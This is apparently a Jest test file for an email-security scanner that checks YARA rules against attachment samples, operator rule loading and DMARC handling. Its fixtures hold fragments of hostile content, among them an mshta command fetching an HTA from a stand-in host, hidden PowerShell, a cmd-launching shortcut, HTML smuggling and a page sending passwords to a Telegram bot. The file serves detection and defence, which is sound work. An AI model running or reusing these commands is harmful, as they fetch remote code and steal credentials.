import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { Authentication, Findings, Indicators, JudgementSay, MailDocument } from '@sluice/contracts';
import { createFolderBlobStore, getDocument, putDocument } from '@sluice/fleet/blobs';
import type { TaskContext } from '@sluice/fleet/queue';
import { buildMail } from '@sluice/testkit';
import { parseMail } from '../src/mail/parse.ts';
import { createMailReader, type MailReader } from '../src/mail/reader.ts';
import { createHandlers } from '../src/tasks.ts';
import { findRuleFiles } from '../src/rules/files.ts';
import { scanFiles } from '../src/rules/scan.ts';

let folder: string;
let own: string[];
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sluice-rules-'));
  const found = await findRuleFiles();
  expect(found.faults).toEqual([]);
  own = found.files;
});
afterAll(() => rm(folder, { recursive: true, force: true }));

function mailWith(fileName: string, content: Buffer): Buffer {
  const lines = [
    'From: a@x.example',
    'To: b@y.example',
    'Subject: A file',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=z',
    '',
    '--z',
    'Content-Type: text/plain',
    '',
    'See the file.',
    '--z',
    `Content-Type: application/octet-stream; name="${fileName}"`,
    `Content-Disposition: attachment; filename="${fileName}"`,
    'Content-Transfer-Encoding: base64',
    '',
    content.toString('base64').replace(/.{76}/g, '$&\r\n'),
    '--z--',
    '',
  ];
  return Buffer.from(lines.join('\r\n'));
}

async function idsOf(fileName: string, content: Buffer | string, files = own): Promise<string[]> {
  const bytes = mailWith(fileName, Buffer.from(content));
  const findings = await scanFiles({ bytes, document: await parseMail(bytes), files });
  return findings.map(({ id }) => id);
}

const LNK = Buffer.concat([
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
  Buffer.alloc(60),
  Buffer.from('C:\\Windows\\System32\\cmd.exe /c start', 'utf16le'),
]);
const ISO = Buffer.concat([
  Buffer.alloc(0x80_01),
  Buffer.from('CD001'),
  Buffer.alloc(9_000),
  Buffer.from('This program cannot be run in DOS mode'),
]);

const ONENOTE = Buffer.concat([
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
  Buffer.alloc(20),
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
  Buffer.from('<HTA:APPLICATION WScript.Shell'),
]);

describe('the rules of the house', () => {
  test.each<[string, string, Buffer | string]>([
    [
      'yara.script-dropper',
      'a.js',
      'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");',
    ],
    ['yara.powershell-download', 'a.bat', 'powershell -w hidden -c "x"'],
    ['yara.mshta-remote', 'a.cmd', 'mshta.exe https://evil.example/a.hta'],
    ['yara.shortcut-with-command', 'invoice.pdf.lnk', LNK],
    ['yara.disk-image-with-program', 'a.iso', ISO],
    ['yara.onenote-with-program', 'a.one', ONENOTE],
    ['yara.macro-auto-open', 'a.doc', 'Attribute VB_Name VBA Sub AutoOpen() CreateObject("x")'],
    ['yara.pdf-launch', 'a.pdf', '%PDF-1.4 1 0 obj << /S /Launch /F (run.exe) >> endobj'],
    ['yara.rtf-equation-exploit', 'a.rtf', '{\\rtf1 {\\object\\objocx{\\*\\objclass Equation.3}}}'],
    [
      'yara.html-smuggling',
      'a.html',
      '<script>var b = new Blob([new Uint8Array(atob(x))]); a.href = URL.createObjectURL(b)</script>',
    ],
    [
      'yara.page-sends-password-to-bot',
      'a.html',
      '<input type="password"><script>fetch("https://api.telegram.org/bot1/x")</script>',
    ],
  ])('%s is found in what has its marks', async (id, name, content) => {
    expect(await idsOf(name, content)).toContain(id);
  });

  test('find nothing in ordinary files', async () => {
    expect(await idsOf('notes.txt', 'Open the document with powershell in mind; macros are off.')).toEqual([]);
    expect(await idsOf('a.pdf', '%PDF-1.4 1 0 obj << /Type /Catalog >> endobj')).toEqual([]);
    expect(await idsOf('page.html', '<html><body><p>Hello</p><script>var a = 1</script></body></html>')).toEqual([]);
    const bytes = Buffer.from(buildMail({ subject: 'Plain', text: 'WScript.Shell MSXML2.XMLHTTP' }));
    expect(await scanFiles({ bytes, document: await parseMail(bytes), files: own })).toEqual([]);
  });

  test('see into an attached mail', async () => {
    const inner = mailWith('a.lnk', LNK);
    expect(await idsOf('forwarded.eml', inner)).toEqual(['yara.shortcut-with-command']);
  });
});

describe("the operator's folder", () => {
  test('adds rules, with what they say of themselves; a faulty file is named and left out', async () => {
    const good =
      'rule Own_Mark { meta: weight = 33 title = "Own" category = "extortion" strings: $a = "mark of ours" condition: $a }';
    await writeFile(join(folder, 'good.yar'), good);
    await writeFile(join(folder, 'broken.yara'), 'rule x { condition: ');
    await writeFile(join(folder, 'readme.txt'), 'no rule');
    const { files, faults } = await findRuleFiles(folder);
    expect(faults).toEqual([{ file: join(folder, 'broken.yara'), why: expect.stringContaining('syntax error') }]);
    const bytes = mailWith('a.txt', Buffer.from('the mark of ours'));
    const [finding] = await scanFiles({ bytes, document: await parseMail(bytes), files });
    expect(finding).toMatchObject({ id: 'yara.own-mark', weight: 33, title: 'Own', category: 'extortion' });
    expect(finding?.evidence).toContainEqual({ where: 'attachment', quote: 'a.txt' });
  });

  test('that does not exist is named, and the rules of the house hold', async () => {
    const { files, faults } = await findRuleFiles(join(folder, 'nowhere'));
    expect(files).toEqual(own);
    expect(faults).toMatchObject([{ file: join(folder, 'nowhere') }]);
  });
});

describe('the tasks of a worker', () => {
  let reader: MailReader;
  beforeAll(() => {
    const authentication = { trustedAuthservIds: [], dns: 'off' as const, timeLimitMs: 1_000 };
    reader = createMailReader({ processes: 1, timeLimitMs: 60_000, memoryMb: 512, model: 'off', authentication });
  });
  afterAll(() => reader.stop());

  const when = { all: [{ field: 'subject', is: 'matches', value: 'a f.le' }] };
  const rules = [{ id: 'file', title: 'Own', explanation: 'E', weight: 20, when }];
  const say = JudgementSay.parse({ rules, trustedAuthservIds: ['mx.own.example'] });

  async function work(mail: Buffer, ask: typeof say) {
    const blobs = createFolderBlobStore(join(folder, 'blobs'));
    const handlers = createHandlers({
      blobs,
      reader,
      providers: {} as Parameters<typeof createHandlers>[0]['providers'],
      rules: { tenant: () => Promise.reject(new Error('nobody asks')) },
      says: { of: async () => ask },
      ruleFiles: own,
      mostVisits: 0,
    });
    const context = { tenant: 'acme', signal: new AbortController().signal } as TaskContext;
    const blob = await blobs.put('acme', mail, { durable: false });
    const { document, isSigned } = await handlers['mail.parse']({ blob }, context);
    const parsed = await getDocument(blobs, MailDocument, document);
    const found = await reader.extract(parsed, context.signal);
    const indicators = await putDocument(blobs, 'acme', Indicators, found);
    const checked = await handlers['mail.check']({ document, indicators }, context);
    const { findings } = await getDocument(blobs, Findings, checked.findings);
    const { authentication } = await handlers['mail.authenticate']({ blob, document }, context);
    const { dmarc } = await getDocument(blobs, Authentication, authentication);
    return { ids: findings.map(({ id }) => id), dmarc, isSigned };
  }

  test('find what the rules of the operator and of YARA say, and believe the servers that the tenant trusts', async () => {
    const results = Buffer.from('Authentication-Results: mx.own.example; dmarc=pass header.from=x.example\r\n');
    const mail = Buffer.concat([results, mailWith('a.lnk', LNK)]);
    const told = await work(mail, say);
    expect(told.ids).toEqual(expect.arrayContaining(['operator.rule.file', 'yara.shortcut-with-command']));
    expect(told).toMatchObject({ dmarc: 'pass', isSigned: true });
    const untold = await work(mail, JudgementSay.parse({}));
    expect(untold.ids).not.toContain('operator.rule.file');
    expect(untold).toMatchObject({ dmarc: 'unknown', isSigned: false });
  });
});
